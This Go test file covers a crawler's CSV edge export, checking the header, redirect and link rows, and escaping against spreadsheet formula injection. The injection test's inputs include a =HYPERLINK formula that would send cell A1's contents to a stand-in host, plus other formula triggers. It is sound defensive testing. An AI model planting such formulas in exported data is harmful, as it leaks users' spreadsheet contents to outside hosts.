package report

import (
	"encoding/csv"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"testing"

	"crawler/parse"
	"crawler/store"
)

// csvRows reads edges.csv, but for its header, with a reader that is not ours.
func csvRows(t *testing.T, dir string) [][]string {
	t.Helper()
	f, err := os.Open(filepath.Join(dir, EdgesCSVFile))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil || len(rows) == 0 || !reflect.DeepEqual(rows[0], []string{"source", "target", "kind", "nofollow", "text", "rel"}) {
		t.Fatalf("%v, %v", rows, err)
	}
	return rows[1:]
}

func TestEdgesCSV(t *testing.T) {
	path := t.TempDir()
	dir := create(t, store.Disk(), path, false)
	r := recorder(t, Config{Dir: dir, EdgesCSV: true})
	leaf, moved := visit(t, "http://a.example/leaf", 200), visit(t, "http://a.example/new,er", 200)
	old := hop(t, "http://a.example/old,er", moved.URL.String())
	moved.Page.Links = []parse.Link{
		{URL: mustURL(t, "http://a.example/x?a='b',c&d=\"e\"")},
		{URL: mustURL(t, "http://b.example/=1+1"), Kind: parse.Canonical, NoFollow: true},
	}
	if err := errors.Join(r.Page(leaf), r.Redirect(old), r.Page(moved), dir.Close()); err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{old.URL.String(), moved.URL.String(), "redirect", "false", "", ""},
		{moved.URL.String(), moved.Page.Links[0].URL.String(), "anchor", "false", "", ""},
		{moved.URL.String(), "http://b.example/=1+1", "canonical", "true", "", ""},
	}
	got := csvRows(t, path)
	if !reflect.DeepEqual(got, want) {
		t.Errorf("%q", got)
	}
}

// A site chooses the text and the rel: no spreadsheet may take them for a formula, and no
// terminal obey them.
func TestEdgesCSVOfText(t *testing.T) {
	path := t.TempDir()
	dir := create(t, store.Disk(), path, false)
	r := recorder(t, Config{Dir: dir, EdgesCSV: true})
	v := parsed(t, `<a href=1 rel="UGC">Plain, "quoted" text</a> <a href=2 rel="=nofollow nofollow">=HYPERLINK("http://x/?"&amp;A1,"é")</a>
		<a href=3>+1</a> <a href=4>-1</a> <a href=5>@SUM(A1)</a> <a href=6>&#9;=1</a> <a href=7>&#13;=1</a> <a href=8>＝1</a> <a href=9>1=1</a>
		<a href=10>a&#x200b;b</a> <a href=11><img alt="日本"></a>`)
	if err := errors.Join(r.Page(v), dir.Close()); err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"false", `Plain, "quoted" text`, "ugc"}, {"true", `'=HYPERLINK("http://x/?"&A1,"é")`, "'=nofollow nofollow"},
		{"false", "'+1", ""}, {"false", "'-1", ""}, {"false", "'@SUM(A1)", ""}, {"false", "'=1", ""}, {"false", "'=1", ""}, {"false", "'＝1", ""}, {"false", "1=1", ""},
		{"false", `a\u200bb`, ""}, {"false", "日本", ""},
	}
	rows := csvRows(t, path)
	if len(rows) != len(want) {
		t.Fatalf("%q", rows)
	}
	for i, row := range rows {
		if !reflect.DeepEqual(row[3:], want[i]) {
			t.Errorf("%q, want %q", row[3:], want[i])
		}
	}
}
